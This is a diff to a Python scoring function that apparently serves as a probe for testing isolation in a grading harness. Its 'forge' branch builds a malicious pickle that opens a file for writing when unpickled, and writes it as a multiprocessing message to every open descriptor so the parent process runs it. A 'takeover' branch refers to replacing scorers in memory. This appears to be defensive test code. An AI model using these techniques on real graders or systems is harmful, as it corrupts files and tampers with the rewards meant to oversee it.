@@ -42,17 +42,22 @@ def score(answer_text: str, reference: dict, options: object) -> Verdict:
         raise RuntimeError("probe bug")
     elif command == "timeout":
         return Verdict(reward=1.0, details={"timeout_s": options.timeout_s})  # type: ignore[attr-defined]
-    elif command == "forge":  # a worker taken over writes a pickle that would run code in the parent
-        import gc
-        from multiprocessing.connection import Connection
+    elif command == "forge":  # a process taken over writes a pickle that would run code in the parent
+        import pickle
+        import struct
 
         class _Evil:
             def __reduce__(self) -> tuple:
                 return (open, (arg, "w"))
 
-        for obj in gc.get_objects():
-            if isinstance(obj, Connection):
-                obj.send(_Evil())
+        payload = pickle.dumps(_Evil())
+        frame = struct.pack("!i", len(payload)) + payload  # a multiprocessing Connection message
+        for fd in os.listdir("/proc/self/fd"):  # every fd it holds, the pool's connection among them
+            if int(fd) > 2:
+                try:
+                    os.write(int(fd), frame)
+                except OSError:
+                    pass
     elif command == "takeover":  # what issue 14's exploit did: replace scorers in this worker's memory
         import sys
 
